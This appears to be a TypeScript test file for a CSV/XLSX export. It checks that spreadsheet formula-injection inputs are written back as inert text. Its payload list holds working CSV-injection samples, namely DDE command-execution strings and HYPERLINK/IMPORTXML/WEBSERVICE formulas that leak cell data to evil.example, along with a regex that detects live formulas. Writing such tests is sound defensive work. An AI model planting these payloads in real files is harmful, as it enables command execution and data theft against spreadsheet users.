import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { unpackRows } from '../domain/packed-rows';
import { fields, type RowCells } from '../domain/row-cells';
import { writeFailedRows } from './failed-rows';
import { defaultFileLimits } from './file-limits';
import { readBytes } from './read-bytes';
import { type FileFormat, writeTable } from './write-table';
import { openZip } from './zip-parts';

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '=WEBSERVICE("https://evil.example")',
  '=SUM(A1:A9)',
  '==1',
  '=',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+919876543210',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '--',
  '@SUM(1+1)',
  '@',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  "'=1+1",
  "''=1+1",
  "'+91 98765 43210",
  '"=1+1"',
  '";=1+1;"',
  ',=1+1',
  '=1+1\n=2+2',
  '=DDE("cmd";"/C calc";"!A0")',
  "'t Hooft",
  '_x003D_1+1',
];

const formats: FileFormat[] = ['xlsx', 'csv'];

describe.each(formats)('in %s', (format) => {
  test.each(PAYLOADS)('%j is no formula and is read as it was written', async (payload) => {
    const cells = { ...rowOf('Asha'), name: payload, citation: payload };
    const bytes = await writeFailedRows(format, [{ cells, reasons: [payload], reference: 'r1' }]);
    expect(await findLiveFormulas(format, bytes)).toEqual([]);
    expect(await readBack(bytes)).toEqual([{ ...cells, reference: 'r1' }]);
  });

  test('every text is read as it was written', async () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.string({ unit: fc.constantFrom(...`='"+-@\t\r\n ;,|a_x0Dअ😀`), maxLength: 8 }),
    );
    const writable = text.filter((value) => !value.includes('\u0000') || format === 'xlsx');
    const row = fc.record({ name: writable, citation: writable, mobile: writable });
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 10 }), async (texts) => {
        const rows = texts.map((some) => ({ ...rowOf('x'), ...some }));
        const failed = rows.map((cells) => ({ cells, reasons: ['wrong'], reference: '' }));
        expect(await readBack(await writeFailedRows(format, failed))).toEqual(rows);
      }),
      { numRuns: 100 },
    );
  });

  test('a heading and a sheet name are no formulas either', async () => {
    const bytes = await writeTable(format, {
      sheetName: '=1+1',
      columns: [{ heading: '=1+1', kind: 'text' }],
      rows: [['=2+2'], [null], [5], [new Date('2026-02-01T10:00:00Z')]],
    });
    expect(await findLiveFormulas(format, bytes)).toEqual([]);
  });
});

function rowOf(name: string): RowCells {
  return {
    name,
    email: 'asha@example.com',
    points: '100',
    mobile: '',
    citation: '',
    reference: '',
  };
}

async function readBack(bytes: Uint8Array): Promise<RowCells[]> {
  const read = await readBytes(bytes, { limits: defaultFileLimits, maxRows: 500 });
  if (!read.ok) throw new Error(read.problem.message);
  expect(read.sheet.source.headings.map(({ field }) => field)).toEqual([
    ...fields.slice(0, 5),
    null,
    'reference',
  ]);
  return unpackRows(read.sheet.rows).map(({ cells }) => cells);
}

/** What a spreadsheet program would run: looked for in the raw file, not by our own reader. */
async function findLiveFormulas(format: FileFormat, bytes: Uint8Array): Promise<string[]> {
  if (format === 'csv') {
    const records = parse(Buffer.from(bytes), { bom: true, relax_column_count: true });
    return records.flat().filter((cell) => /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell));
  }
  const zip = await openZip(bytes, defaultFileLimits);
  const found: string[] = [];
  for (const name of zip.names.filter((part) => part.startsWith('xl/'))) {
    const chunks: Buffer[] = [];
    for await (const chunk of zip.read(name)) chunks.push(chunk);
    found.push(
      ...(Buffer.concat(chunks)
        .toString()
        .match(/<f[ >/][^]*|<definedName\b/g) ?? []),
    );
  }
  return found;
}
